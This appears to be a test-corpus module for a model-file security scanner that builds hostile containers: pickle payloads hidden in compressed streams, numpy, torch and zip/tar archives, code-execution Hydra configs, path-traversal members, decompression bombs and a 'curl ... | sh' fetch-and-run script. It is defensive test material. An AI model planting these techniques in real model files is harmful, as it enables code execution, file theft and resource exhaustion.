"""Hostile containers: wrong names, compressed streams, numpy, archives, torch archives, programs. Never loaded."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from corpora.units import (
    BOMB,
    BROKEN,
    CALLED,
    CUSTOM,
    FOREIGN,
    HIDDEN,
    ODD,
    OPERATOR,
    PATH,
    REACHES,
    YAML,
    Unit,
    unit,
)
from modelfile_samples import EVIL, PLAIN, npy, stream, tarred, text, torch_zip, zipped
from shipworthy.modelfile import Code

HONEST = Path(__file__).parents[1] / "data" / "models"
SUFFIXES = (
    "bin pt pth ckpt dat data model joblib p pk npy npz pdparams weights txt json png safetensors onnx gguf h5 keras "
    "tflite pb mlmodel rds parquet xml yaml md csv jpg pkl.gz.bak ''"
).split()
HEADER = {"descr": "<f8", "fortran_order": False, "shape": (2,)}


def disguised() -> Iterator[Unit]:
    for suffix in SUFFIXES:
        file = "model" if suffix == "''" else f"model.{suffix}"
        yield unit("wrong names", file, EVIL, CALLED, file)


def xxh32(data: bytes) -> int:
    """The checksum of LZ4's frame headers, for fewer than 16 bytes."""
    mask, total = 0xFFFFFFFF, 374761393 + len(data) & 0xFFFFFFFF
    while len(data) >= 4:
        total = total + int.from_bytes(data[:4], "little") * 3266489917 & mask
        total = ((total << 17 | total >> 15) & mask) * 668265263 & mask
        data = data[4:]
    for byte in data:
        total = total + byte * 374761393 & mask
        total = ((total << 11 | total >> 21) & mask) * 2654435761 & mask
    total = (total ^ total >> 15) * 2246822519 & mask
    total = (total ^ total >> 13) * 3266489917 & mask
    return total ^ total >> 16


def lz4(data: bytes, blocks: bytes = b"") -> bytes:
    """A frame of one block that is not compressed, or of these blocks."""
    head = b"\x60\x70"
    body = blocks or struct.pack("<I", len(data) | 1 << 31) + data
    return b"\x04\x22\x4d\x18" + head + bytes([xxh32(head) >> 8 & 255]) + body + bytes(4)


def lz4_bomb(megabytes: int) -> bytes:
    """Blocks of one literal and a match as long as the block."""
    block = b"\x1f\0\x01\0" + b"\xff" * 16_000 + b"\0" + b"\x50" + bytes(5)
    return lz4(b"", (struct.pack("<I", len(block)) + block) * (megabytes // 4))


def zstd(data: bytes) -> bytes:
    """A frame of one raw block."""
    return b"\x28\xb5\x2f\xfd\xa0" + struct.pack("<I", len(data)) + (len(data) << 3 | 1).to_bytes(3, "little") + data


def zstd_bomb(megabytes: int) -> bytes:
    """Blocks that repeat one byte."""
    count = megabytes * 8
    blocks = [((1 << 17) << 3 | 2 | (n == count - 1)).to_bytes(3, "little") + b"\0" for n in range(count)]
    return b"\x28\xb5\x2f\xfd\xa0" + struct.pack("<I", count << 17) + b"".join(blocks)


def zfile(data: bytes, size: int | None = None) -> bytes:
    return b"ZF" + hex(len(data) if size is None else size).encode().ljust(19) + zlib.compress(data)


def alone(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_ALONE)


PACKERS = {
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": alone,
    "zlib": zlib.compress,
    "lz4": lz4,
    "zstd": zstd,
    "ZF": zfile,
}


def compressed() -> Iterator[Unit]:
    family = "compressed"
    for key, pack in PACKERS.items():
        file = f"model.joblib.{key.lower()}"
        yield unit(family, key, pack(EVIL), CALLED, file)
        yield unit(family, f"{key} behind a harmless stream", pack(PLAIN + EVIL), CALLED, file)
        yield unit(family, f"{key} of a torch archive", pack(torch_zip(EVIL)), CALLED, file)
        yield unit(family, f"{key}, payload behind the end", pack(PLAIN) + EVIL, HIDDEN | BROKEN, file, True)
        yield unit(family, f"{key}, cut", pack(EVIL)[:-6], BROKEN | CALLED, file, True)
    for key in ("gzip", "bz2", "xz", "lz4", "zstd"):
        pack = PACKERS[key]
        yield unit(family, f"{key} twice", pack(pack(EVIL)), CALLED, f"m.{key}")
        yield unit(family, f"{key}, second member", pack(PLAIN) + pack(EVIL), HIDDEN, f"m.{key}")
    everything = EVIL
    for pack in PACKERS.values():
        everything = pack(everything)
    yield unit(family, "all in all", everything, CALLED | BOMB, "m.pkl")
    deep = EVIL
    for _ in range(40):
        deep = gzip.compress(deep)
    yield unit(family, "gzip forty times", deep, CALLED | BOMB, "m.pkl.gz")
    yield unit(
        family,
        "gzip with a path as its name",
        b"\x1f\x8b\x08\x08" + bytes(6) + b"../../x\0" + gzip.compress(EVIL)[10:],
        CALLED | PATH,
        "m.gz",
    )
    yield unit(
        family, "zstd after a skippable frame", b"\x50\x2a\x4d\x18\x04\0\0\0evil" + zstd(EVIL), CALLED | ODD, "m.zst"
    )
    yield unit(
        family,
        "skippable frame holds the payload",
        b"\x50\x2a\x4d\x18" + struct.pack("<I", len(EVIL)) + EVIL + zstd(PLAIN),
        HIDDEN,
        "m.zst",
    )
    yield unit(
        family,
        "lz4 in the legacy format",
        b"\x02\x21\x4c\x18" + struct.pack("<I", len(EVIL)) + EVIL,
        CALLED | ODD | FOREIGN,
        "m.lz4",
    )
    yield unit(family, "ZF with a wrong length", zfile(EVIL, 5), CALLED | BROKEN, "m.joblib", True)
    zeros = bytes(16 << 20)
    yield unit("bombs", "gzip", gzip.compress(zeros) * 40, BOMB, "m.pkl.gz", True)
    yield unit("bombs", "bz2", bz2.compress(zeros) * 40, BOMB, "m.pkl.bz2", True)
    yield unit("bombs", "xz", lzma.compress(zeros, preset=0) * 40, BOMB, "m.pkl.xz", True)
    yield unit("bombs", "lz4", lz4_bomb(640), BOMB, "m.lz4", True)
    yield unit("bombs", "zstd", zstd_bomb(640), BOMB, "m.zst", True)
    member = zipped(*((f"{n}.bin", zeros) for n in range(20)), method=zipfile.ZIP_DEFLATED)
    yield unit("bombs", "zip", member, BOMB, "m.zip", True)
    yield unit("bombs", "zip in zip", zipped(*((f"{n}.zip", member) for n in range(16)), method=8), BOMB, "m.pt", True)
    yield unit(
        "bombs",
        "npz",
        zipped(("a.npy", npy({**HEADER, "shape": (1 << 60,)}, zeros)), method=8),
        BOMB | ODD,
        "m.npz",
        True,
    )


def numpy() -> Iterator[Unit]:
    def array(key: str, codes: frozenset[Code], body: bytes = bytes(16), **changes: object) -> Unit:
        return unit("numpy", key, npy({**HEADER, **changes}, body), codes, "a.npy")

    yield array("objects", CALLED, EVIL, descr="|O", shape=(1,))
    yield array("structured objects", CALLED, EVIL, descr=[("a", "<f8"), ("b", "|O")], shape=(1,))
    yield array("objects in a subarray", CALLED, EVIL, descr=[("a", "|O", (2,))], shape=(1,))
    yield array("2^60 elements", BOMB, shape=(1 << 60,))
    yield array("product overflows", BOMB, shape=(1 << 33, 1 << 33))
    yield array("negative shape", BROKEN, shape=(-2,))
    yield array("payload behind the array", HIDDEN, bytes(16) + EVIL)
    yield array("unknown key", BROKEN | ODD, evil="x")
    yield array("alignment and objects", CALLED, EVIL, descr="O8", shape=())
    code = b"{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,)}\n"
    yield unit(
        "numpy",
        "header is a call",
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(code)) + code + bytes(8),
        BROKEN | CALLED,
        "a.npy",
    )
    nest = b"{'descr': " + b"(" * 5000 + b")" * 5000 + b", 'fortran_order': False, 'shape': (1,)}\n"
    yield unit(
        "numpy",
        "header nested deep",
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(nest)) + nest + bytes(8),
        BOMB,
        "a.npy",
        True,
    )
    yield unit("numpy", "header longer than the file", b"\x93NUMPY\x02\x00\xff\xff\xff\x7f{}", BROKEN, "a.npy", True)
    yield unit("numpy", "version 9", b"\x93NUMPY\x09\x00" + npy(HEADER, bytes(16))[8:], BROKEN, "a.npy", True)
    good = npy(HEADER, bytes(16))
    yield unit("numpy", "pickle in an npz", zipped(("w.npy", EVIL)), CALLED, "a.npz")
    yield unit(
        "numpy",
        "objects in an npz",
        zipped(("a.npy", good), ("b.npy", npy({**HEADER, "descr": "|O"}, EVIL))),
        CALLED,
        "a.npz",
    )
    yield unit("numpy", "npz within npz", zipped(("a.npy", good), ("b.npz", zipped(("c.npy", EVIL)))), CALLED, "a.npz")
    yield unit("numpy", "two arrays in one file", good + good, ODD, "a.npy", True)
    yield unit("numpy", "pickle instead of an array", EVIL, CALLED, "a.npy")


def patched(data: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    at = data.find(signature) + offset
    return data[:at] + value + data[at + len(value) :]


def remade(name: str, *changes: tuple[str, bytes, bytes], add: dict[str, bytes] | None = None) -> bytes:
    """An honest archive with texts of some members exchanged, and members added."""
    with zipfile.ZipFile(HONEST / name) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    for member, old, new in changes:
        target = next(key for key in members if key.endswith(member))
        if old not in members[target]:
            raise ValueError(f"{name}: {member} has no {old!r}")
        members[target] = members[target].replace(old, new, 1)
    root = next(iter(members)).split("/")[0]
    members.update({key.replace("ROOT", root): raw for key, raw in (add or {}).items()})
    return zipped(*members.items())


def torch_archives() -> Iterator[Unit]:
    family, base = "torch archives", torch_zip(EVIL)
    good = torch_zip(PLAIN)

    def archive(key: str, data: bytes, codes: frozenset[Code], structural: bool = False) -> Unit:
        return unit(family, key, data, codes, "model.pt", structural)

    yield archive("data.pkl", base, CALLED)
    for member in (
        "data/1",
        "constants.pkl",
        "code/x.debug_pkl",
        "extra/x",
        ".data/x",
        "data.pkl.bak",
        "attributes.pkl",
    ):
        yield archive(f"payload in {member}", torch_zip(PLAIN, (f"m/{member}", EVIL)), HIDDEN)
    for member in ("byteorder", "version"):
        yield archive(f"payload as {member}", zipped(("m/data.pkl", PLAIN), (f"m/{member}", EVIL)), HIDDEN)
    yield archive("payload outside of the root", torch_zip(PLAIN, ("other/data.pkl", EVIL)), HIDDEN)
    yield archive("payload instead of a storage", zipped(("m/data.pkl", PLAIN), ("m/data/0", EVIL)), HIDDEN)
    for key, method in {"deflate": 8, "bz2": 12, "lzma": 14}.items():
        yield archive(f"packed with {key}", zipped(("m/data.pkl", EVIL), method=method), CALLED)
    for bit in (0x01, 0x08, 0x20, 0x40, 0x2000):
        yield archive(
            f"flag {bit:#x} in the directory",
            patched(base, b"PK\x01\x02", 8, struct.pack("<H", bit)),
            ODD | CALLED,
            True,
        )
        yield archive(
            f"flag {bit:#x} before the member",
            patched(base, b"PK\x03\x04", 6, struct.pack("<H", bit)),
            ODD | CALLED,
            True,
        )
    for key, (offset, value) in {
        "checksum": (16, b"\xde\xad\xbe\xef"),
        "method 93": (10, b"\x5d\0"),
        "method 99": (10, b"\x63\0"),
        "packed size": (20, b"\x05\0\0\0"),
        "size": (24, b"\x05\0\0\0"),
        "size of 4 GiB": (24, b"\xff\xff\xff\xff"),
        "offset": (42, b"\x10\0\0\0"),
        "offset beyond": (42, b"\xff\xff\xff\x7f"),
        "disk": (34, b"\x07\0"),
        "name": (46, b"m/data.pk1"),
    }.items():
        yield archive(f"directory lies: {key}", patched(base, b"PK\x01\x02", offset, value), ODD | CALLED, True)
    for key, (offset, value) in {
        "checksum": (14, b"\xde\xad\xbe\xef"),
        "size": (22, b"\x05\0\0\0"),
        "method": (8, b"\x08\0"),
        "name": (30, b"m/data.pk1"),
        "name length": (26, b"\x05\0"),
    }.items():
        yield archive(f"member's header lies: {key}", patched(base, b"PK\x03\x04", offset, value), ODD | CALLED, True)
    for key, (offset, value) in {
        "count": (10, b"\x01\0"),
        "start of the directory": (16, b"\0\0\0\0"),
        "size": (12, b"\x01\0\0\0"),
        "disk": (4, b"\x01\0"),
    }.items():
        yield archive(f"end record lies: {key}", patched(base, b"PK\x05\x06", offset, value), ODD | CALLED, True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield archive("twice, evil first", zipped(("m/data.pkl", EVIL), ("m/data.pkl", PLAIN)), ODD | CALLED, True)
        yield archive("twice, evil last", zipped(("m/data.pkl", PLAIN), ("m/data.pkl", EVIL)), ODD | CALLED, True)
        yield archive("twice but for the case", zipped(("m/data.pkl", PLAIN), ("M/DATA.PKL", EVIL)), HIDDEN, True)
    yield archive("prefix", bytes(1024) + base, ODD | CALLED, True)
    yield archive("pickle in front", EVIL + good, HIDDEN, True)
    yield archive("pickle behind", good + EVIL, HIDDEN, True)
    yield archive("two archives", good + base, HIDDEN, True)
    yield archive("second end record", base + b"PK\x05\x06" + bytes(18), ODD | CALLED, True)
    yield archive(
        "archive in the comment", patched(good, b"PK\x05\x06", 20, struct.pack("<H", len(base))) + base, HIDDEN, True
    )
    yield archive("hidden member", zipped(("m/x", EVIL)).split(b"PK\x01\x02")[0] + good, HIDDEN, True)
    yield archive("truncated", base[:-30], ODD | CALLED, True)
    yield archive("no directory", base.split(b"PK\x01\x02")[0], ODD | CALLED, True)
    yield archive("two pickles of two roots", zipped(("a/data.pkl", PLAIN), ("b/data.pkl", EVIL)), HIDDEN)
    persistent = stream(b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"J\0\0\0\x7ftQ")
    yield archive("storage of 2^31", torch_zip(persistent), ODD | CALLED | {Code.UNKNOWN_NAME, Code.STATE_TAMPERING})
    outside = stream(
        b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("../../etc/passwd") + text("cpu") + b"J\x10\0\0\0tQ"
    )
    yield archive("storage key with a path", torch_zip(outside), ODD | PATH | {Code.EXTERNAL_DATA})
    magic = stream(b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19", protocol=2)
    yield archive(
        "legacy",
        magic + stream(b"M\xe9\x03", protocol=2) + stream(b"}", protocol=2) + EVIL + stream(b"]", protocol=2),
        CALLED | BROKEN,
    )
    yield archive(
        "legacy tar", tarred(("sys_info", PLAIN), ("pickle", EVIL), ("storages", PLAIN), ("tensors", PLAIN)), CALLED
    )


SCRIPTS = {
    "from_file": 'ops.aten.from_file("/etc/passwd", False, 100)',
    "save": 'ops.aten.save(x, "/tmp/x")',
    "custom operator": "ops.evil.run(x)",
    "custom library": 'torch.ops.load_library("/tmp/x.so")',
    "file reader of torchaudio": 'ops.torchaudio.sox_io_load_audio_file("/etc/passwd", None, None, None, None, None)',
    "remote call": 'ops.aten.rpc_async("worker", x)',
    "foreign class": "__torch__.torch.classes.evil.Shell()",
    "image reader": 'ops.image.read_file("/etc/passwd")',
    "image writer": 'ops.image.write_file("/tmp/x", x)',
    "python operator": 'ops.prim.PythonOp("os.system")',
    "breakpoint": "ops.prim.breakpoint()",
}


def scripts() -> Iterator[Unit]:
    for key, expression in SCRIPTS.items():
        code = f"class M(Module):\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    y = {expression}\n"
        data = remade("llm/traced.pt", add={"ROOT/code/__torch__/evil.py": (code + "    return x\n").encode()})
        yield unit("TorchScript", key, data, OPERATOR | REACHES | CALLED | {Code.UNKNOWN_NAME}, "model.pt")
    for key, member in {
        "constants": "constants.pkl",
        "debug": "code/__torch__.py.debug_pkl",
        "inputs": "traced_inputs.pkl",
        "data": "data.pkl",
    }.items():
        yield unit("TorchScript", f"pickle as {key}", remade("llm/traced.pt", add={f"ROOT/{member}": EVIL}), HIDDEN)
    program = b"\x7fELF\x02\x01\x01" + bytes(200)
    yield unit("TorchScript", "library beside it", remade("llm/traced.pt", add={"ROOT/extra/x.so": program}), FOREIGN)
    yield unit(
        "TorchScript",
        "python source",
        remade("llm/traced.pt", add={"ROOT/extra/x.py": b"import os\n"}),
        FOREIGN | REMOTE_SOURCE,
    )


REMOTE_SOURCE = frozenset({Code.REMOTE_CODE, Code.HIDDEN_PAYLOAD, Code.UNEXPLAINED_BYTES, Code.CODE_EXECUTION})


def exported() -> Iterator[Unit]:
    family, target = "torch.export", b'"target": "torch.ops.aten.'
    symbol = b"Symbol('s77', positive=True, integer=True)"
    evil = b"__import__('os').system('id')"
    codes = OPERATOR | CALLED | {Code.UNKNOWN_NAME}

    def changed(key: str, old: bytes, new: bytes) -> Unit:
        return unit(family, key, remade("llm/sized.pt2", ("models/model.json", old, new)), codes, "m.pt2")

    yield changed("call in an expression", symbol, evil)
    yield changed("attributes in an expression", symbol, b"().__class__.__base__.__subclasses__()")
    yield changed("lambda in an expression", symbol, b"(lambda: 1)()")
    yield changed("name in an expression", symbol, b"open('/etc/passwd')")
    yield changed("comprehension in an expression", symbol, b"[x for x in ()]")
    yield changed("operator outside of torch", target, b'"target": "torch.ops.evil.')
    yield changed("target is a shell", b'"target": "_operator.mul"', b'"target": "os.system"')
    yield changed("target is eval", b'"target": "_operator.mul"', b'"target": "builtins.eval"')
    yield changed("target is attrgetter", b'"target": "_operator.mul"', b'"target": "_operator.attrgetter"')
    yield changed("target of torch.hub", b'"target": "_operator.mul"', b'"target": "torch.hub.load"')
    yield changed(
        "target is from_file",
        b'"target": "torch.ops.aten.cat.default"',
        b'"target": "torch.ops.aten.from_file.default"',
    )
    with zipfile.ZipFile(HONEST / "llm/sized.pt2") as archive:
        model = json.loads(archive.read("sized/models/model.json"))
    model["guards_code"] = ["L['x'].size()[0] == 4", evil.decode()]
    yield unit(
        family,
        "guard that calls",
        remade("llm/sized.pt2", add={"ROOT/models/model.json": json.dumps(model).encode()}),
        codes,
        "m.pt2",
    )
    program = b"\x7fELF\x02\x01\x01" + bytes(200)
    for key, (member, raw, right) in {
        "payload as sample inputs": ("data/sample_inputs/model.pt", torch_zip(EVIL), HIDDEN),
        "payload as a constant": ("data/constants/c", torch_zip(EVIL), HIDDEN),
        "pickle as a weight": ("data/weights/weight_0", EVIL, HIDDEN),
        "compiled library": ("data/aotinductor/model/m.so", program, FOREIGN),
        "C++ source": (
            "data/aotinductor/model/m.cpp",
            b"#include <stdlib.h>\nint main() { system(0); }\n",
            FOREIGN | ODD | CALLED,
        ),
        "path to weights": (
            "data/weights/model_weights_config.json",
            b'{"config": {"w": {"path_name": "../../etc/passwd", "is_param": true, "use_pickle": true}}}',
            PATH | ODD | {Code.EXTERNAL_DATA},
        ),
    }.items():
        yield unit(family, key, remade("llm/linear.pt2", add={f"ROOT/{member}": raw}), right, "m.pt2")


def archives() -> Iterator[Unit]:
    family = "archives"
    yield unit(family, "zip in zip in zip", zipped(("a", zipped(("b", zipped(("m.pkl", EVIL)))))), CALLED, "m.zip")
    yield unit(family, "tar in gzip in zip", zipped(("a", gzip.compress(tarred(("m", EVIL))))), CALLED, "m.zip")
    for path in ("/etc/cron.d/x", "../../x", "a/../../x", "..\\..\\x", "C:\\x", "\\\\host\\share\\x", "a/./../../x"):
        yield unit(family, f"zip member {path}", zipped((path, b"x")), PATH, "m.zip")
        yield unit(family, f"tar member {path}", tarred((path, b"x")), PATH, "m.tar")
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield unit(family, "link in a zip", buffer.getvalue(), PATH | ODD, "m.zip")
    yield unit(family, "link in a tar", tarred(("d", b"", "/etc"), ("d/passwd", b"x")), PATH, "m.tar")
    yield unit(family, "link upwards", tarred(("a/b", b"", "../../../etc")), PATH, "m.tar")
    for key, kind in {"hard link": tarfile.LNKTYPE, "device": tarfile.CHRTYPE, "fifo": tarfile.FIFOTYPE}.items():
        info = tarfile.TarInfo("x")
        info.type, info.linkname = kind, "/etc/passwd" if kind == tarfile.LNKTYPE else ""
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as tar:
            tar.addfile(info)
        yield unit(family, f"tar {key}", buffer.getvalue(), PATH | FOREIGN | ODD, "m.tar")
    yield unit(family, "payload in a tar", tarred(("w/m.ckpt", torch_zip(EVIL))), CALLED, "m.tar")
    yield unit(family, "payload behind a tar", tarred(("a", PLAIN)) + EVIL, HIDDEN, "m.tar", True)
    yield unit(
        family,
        "tar with a wrong checksum",
        patched(tarred(("a", EVIL)), b"ustar", -100, b"9999"),
        ODD | CALLED,
        "m.tar",
        True,
    )
    yield unit(family, "7z", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(60), FOREIGN, "m.7z")
    yield unit(family, "rar", b"Rar!\x1a\x07\x01\0" + bytes(60), FOREIGN, "m.pt")
    manifest = {"model": {"modelName": "m", "handler": "handler.py", "serializedFile": "m.pt"}}
    source = b"import os\nos.system('id')\n"
    mar = ("MAR-INF/MANIFEST.json", json.dumps(manifest).encode())
    yield unit(
        family,
        "handler of a .mar",
        zipped(mar, ("handler.py", source), ("m.pt", torch_zip(PLAIN))),
        REMOTE_SOURCE | FOREIGN,
        "m.mar",
    )
    yield unit(
        family,
        "requirements of a .mar",
        zipped(
            (
                mar[0],
                mar[1]
                .replace(b"handler.py", b"image_classifier")
                .replace(b'"m"', b'"m", "requirementsFile": "requirements.txt"'),
            ),
            ("requirements.txt", b"--index-url https://example.invalid\nevil\n"),
            ("m.pt", torch_zip(PLAIN)),
        ),
        REMOTE_SOURCE | FOREIGN | {Code.EXTERNAL_DATA},
        "m.mar",
    )
    yield unit(
        family,
        "handler with a path",
        zipped((mar[0], mar[1].replace(b"handler.py", b"../../x.py:run"))),
        PATH | REMOTE_SOURCE | FOREIGN | ODD | {Code.EXTERNAL_DATA},
        "m.mar",
    )
    for key, config in {
        "target": "target: nemo.X\nextra:\n  _target_: os.system\n  command: id\n",
        "target in a list": "model:\n  - _target_: subprocess.Popen\n    _args_: [id]\n",
        "target of builtins": "a:\n  _target_: builtins.exec\n  _args_: ['1']\n",
        "target of torch.hub": "a:\n  _target_: torch.hub.load\n  repo_or_dir: attacker/repo\n",
        "hydra's own": "a:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "quoted target": 'a: {"_target_": "posix.system", "command": "id"}\n',
        "interpolation": "a:\n  _target_: ${oc.env:X}\n",
        "anchor": "a: &x\n  _target_: os.system\nb:\n  <<: *x\n",
    }.items():
        data = tarred(("model_config.yaml", config.encode()), ("model_weights.ckpt", torch_zip(PLAIN)))
        yield unit("Hydra", key, data, CALLED | REMOTE_SOURCE | YAML | {Code.UNKNOWN_NAME}, "m.nemo")
        yield unit(
            "Hydra",
            f"{key}, no archive",
            config.encode(),
            CALLED | REMOTE_SOURCE | YAML | {Code.UNKNOWN_NAME},
            "config.yaml",
        )
    weights = tarred(("model_config.yaml", b"target: nemo.X\n"), ("model_weights.ckpt", torch_zip(EVIL)))
    yield unit("Hydra", "weights of a .nemo", weights, CALLED, "m.nemo")


PROGRAMS = {
    "ELF": b"\x7fELF\x02\x01\x01" + bytes(57) + b"\x90" * 400,
    "PE": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(300),
    "Mach-O": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(200),
    "fat Mach-O": b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(200),
    "APE": b"MZqFpD='\n" + bytes(500),
    "WebAssembly": b"\0asm\x01\0\0\0" + bytes(50),
    "script": b"#!/bin/sh\ncurl https://example.invalid | sh\n",
    "TensorRT": b"ptrt" + bytes(100),
}


def programs() -> Iterator[Unit]:
    for key, raw in PROGRAMS.items():
        yield unit("programs", key, raw, FOREIGN, "pytorch_model.bin")
        yield unit(
            "programs",
            f"{key} in a torch archive",
            torch_zip(PLAIN, ("m/extra/run", raw)),
            FOREIGN | HIDDEN,
            "model.pt",
        )
        if key not in ("APE",):
            yield unit("programs", f"{key} in a tar", tarred(("run", raw)), FOREIGN, "m.tar")
    yield unit(
        "programs", "library for an operator", tarred(("custom_ops.so", PROGRAMS["ELF"])), FOREIGN | CUSTOM, "m.tar"
    )


def containers() -> Iterator[Unit]:
    for source in (disguised, compressed, numpy, torch_archives, scripts, exported, archives, programs):
        yield from source()
